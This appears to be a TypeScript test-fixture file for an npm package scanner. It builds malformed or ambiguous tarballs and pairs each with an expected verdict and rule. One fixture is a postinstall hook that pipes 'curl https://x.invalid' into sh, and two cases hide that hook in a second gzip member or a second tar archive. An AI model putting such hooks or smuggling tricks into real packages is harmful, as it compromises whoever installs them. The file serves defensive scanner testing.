import { gzipSync } from 'node:zlib';
import type { HostileArchive } from './archive';
import { entry, MANIFEST, tar, tgz } from './tar';

/** An npm hook that the scanner calls malicious wherever it sees it. */
const HOOK = JSON.stringify({
  name: 'sample',
  version: '1.0.0',
  scripts: { postinstall: 'curl https://x.invalid | sh' },
});

const header = (told: Parameters<typeof entry>[0]) => entry(told).subarray(0, 512);
const npm = (
  what: string,
  build: HostileArchive['build'],
  verdict: HostileArchive['verdict'],
  rule: string,
) => ({ ecosystem: 'npm', what, build, verdict, rule }) as const;

/** Names that not every file system has, and archives that end where they should not. */
export const TAR_ENDS: readonly HostileArchive[] = [
  npm(
    'a name that is not UTF-8',
    () => tgz({ name: '', rawName: Buffer.from('package/caf\u00e9.js', 'latin1'), content: 'x' }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'a device of Windows',
    () => tgz({ name: 'package/aux.js', content: 'x' }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'a name that ends in a dot',
    () => tgz({ name: 'package/a.js.', content: 'x' }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'a stream of NTFS',
    () => tgz({ name: 'package/a.js:hidden', content: 'x' }),
    'warning',
    'archive-odd-name',
  ),
  npm(
    'cut off in the gzip',
    () => tgz({ name: 'package/a.js', content: 'x'.repeat(5000) }).subarray(0, -20),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'cut off in a header',
    () => gzipSync(Buffer.concat([MANIFEST, entry({ name: 'package/a.js' }).subarray(0, 300)])),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'cut off in a file',
    () =>
      gzipSync(
        Buffer.concat([
          MANIFEST,
          header({ name: 'package/a.js', sizeField: '00000010000\0' }),
          Buffer.from('x'),
        ]),
      ),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'garbage after the end',
    () => Buffer.concat([tgz(), Buffer.from('garbage that nobody reads')]),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'garbage after zeros after the end',
    () => Buffer.concat([tgz(), Buffer.alloc(8), Buffer.from('garbage')]),
    'suspicious',
    'archive-ambiguous',
  ),
  npm(
    'a zip after the end',
    () => Buffer.concat([tgz(), Buffer.from('504b0304', 'hex'), Buffer.alloc(200, 1)]),
    'unknown',
    'archive-corrupt',
  ),
  npm(
    'a gzip of two members, the second with a hook',
    () => Buffer.concat([gzipSync(MANIFEST), gzipSync(tar({ name: 'package/package.json', content: HOOK }))]),
    'malicious',
    'archive-duplicate-entry',
  ),
  npm(
    'a second archive after the end of the first',
    () => gzipSync(Buffer.concat([tar(MANIFEST), tar({ name: 'package/package.json', content: HOOK })])),
    'malicious',
    'archive-duplicate-entry',
  ),
  npm(
    'something before the gzip',
    () => Buffer.concat([Buffer.from('#!/bin/sh\n'), tgz()]),
    'unknown',
    'archive-corrupt',
  ),
  npm('nothing', () => Buffer.alloc(0), 'unknown', 'archive-corrupt'),
  npm('a gzip of nothing', () => gzipSync(''), 'suspicious', 'manifest-missing'),
  npm('a tar without gzip', () => tar(MANIFEST), 'unknown', 'archive-corrupt'),
  npm(
    'a checksum of the gzip that is wrong',
    () => {
      const bytes = tgz();
      bytes.writeUInt32LE(1, bytes.length - 8);
      return bytes;
    },
    'unknown',
    'archive-corrupt',
  ),
];
